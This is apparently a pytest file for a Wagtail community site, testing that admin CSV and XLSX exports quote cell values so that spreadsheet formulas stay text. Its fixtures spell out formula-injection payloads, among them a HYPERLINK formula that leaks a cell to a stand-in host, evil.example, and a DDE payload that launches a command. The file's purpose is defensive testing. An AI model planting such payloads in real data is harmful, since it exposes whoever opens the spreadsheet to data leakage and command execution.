"""Admin exports open in a spreadsheet as text: residents' (and editors') words never become
formulas, in Tapestry's exports and Wagtail's own."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from communities.feedback.services import feedback_submit
from communities.models import EventRegistration, Feedback
from communities.registrations.services import registration_create
from home.spreadsheets import spreadsheet_text
from tests.helpers import (
    HUACAO,
    article_create,
    community_events_index,
    community_news_index,
    event_create,
    user_create,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2, "Open")'
DDE = "=cmd|' /C calc'!A0"
# Every start a spreadsheet reads as a formula, and what the export must write instead.
FORMULAS = {
    HYPERLINK: "'" + HYPERLINK,
    DDE: "'" + DDE,
    "+SUM(1, 2)": "'+SUM(1, 2)",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def desk(client):
    client.force_login(user_create(groups=["CNS Editorial Desk"]))
    return client


@pytest.fixture
def feedback():
    """Feedback holding each formula as its message (stored as is: a submission strips a
    leading tab, an import or a later edit might not)."""
    items = []
    for message in [*FORMULAS, "A plain question = fine"]:
        item = feedback_submit(community=HUACAO, category="question", message="x").feedback
        Feedback.objects.filter(pk=item.pk).update(message=message)
        items.append(item)
    return items


def test_cells_that_would_start_a_formula_get_a_quote():
    for value, written in FORMULAS.items():
        assert spreadsheet_text(value) == written
    assert spreadsheet_text("A plain question = fine") == "A plain question = fine"
    assert spreadsheet_text(-2) == -2  # numbers stay numbers


def test_feedback_csv_writes_formulas_as_text(desk, feedback):
    Feedback.objects.filter(pk=feedback[0].pk).update(public_response="=1+1")

    rows = csv_rows(desk.get("/admin/feedback/?export=csv"))

    messages = {row["Message"] for row in rows}
    assert messages == {*FORMULAS.values(), "A plain question = fine"}
    assert "'=1+1" in {row["Public response"] for row in rows}
    assert {row["Reference"] for row in rows} == {item.reference for item in feedback}


def test_feedback_xlsx_has_text_cells_only(desk, feedback):
    response = desk.get("/admin/feedback/?export=xlsx")
    content = b"".join(response.streaming_content)

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("Message")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    # The text as it was (XML reads a carriage return back as a newline), in string cells.
    written = {value.replace("\r", "\n") for value in FORMULAS}
    assert {cell.value for cell in cells} == {*written, "A plain question = fine"}
    assert {cell.data_type for cell in cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        sheet_xml = workbook.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_registrations_csv_writes_formulas_as_text(desk):
    event = event_create(
        community_events_index(HUACAO),
        publish=True,
        title="=Dumplings",
        registration_required=True,
    )
    for number, name in enumerate(FORMULAS):
        registered = registration_create(
            event_id=event.pk, name="x", email=f"r{number}@example.org", party_size=1, locale="en"
        )
        EventRegistration.objects.filter(pk=registered.registration.pk).update(name=name)

    rows = csv_rows(desk.get("/admin/registrations/?export=csv"))

    assert {row["Name"] for row in rows} == set(FORMULAS.values())
    assert {row["Event"] for row in rows} == {"'=Dumplings"}
    assert {row["Party size"] for row in rows} == {"1"}


def test_translations_report_csv_writes_formulas_as_text(client):
    article_create(community_news_index(HUACAO), publish=True, title=HYPERLINK)
    client.force_login(user_create(superuser=True))

    rows = csv_rows(client.get("/admin/reports/translations/?export=csv"))

    titles = {row["Title"] for row in rows}
    assert "'" + HYPERLINK in titles
    assert HYPERLINK not in titles


def test_wagtails_own_reports_write_formulas_as_text(client):
    article_create(community_news_index(HUACAO), publish=True, title=DDE)
    client.force_login(user_create(superuser=True))

    rows = csv_rows(client.get("/admin/reports/aging-pages/?export=csv"))

    titles = {row["Title"] for row in rows}
    assert "'" + DDE in titles
    assert DDE not in titles
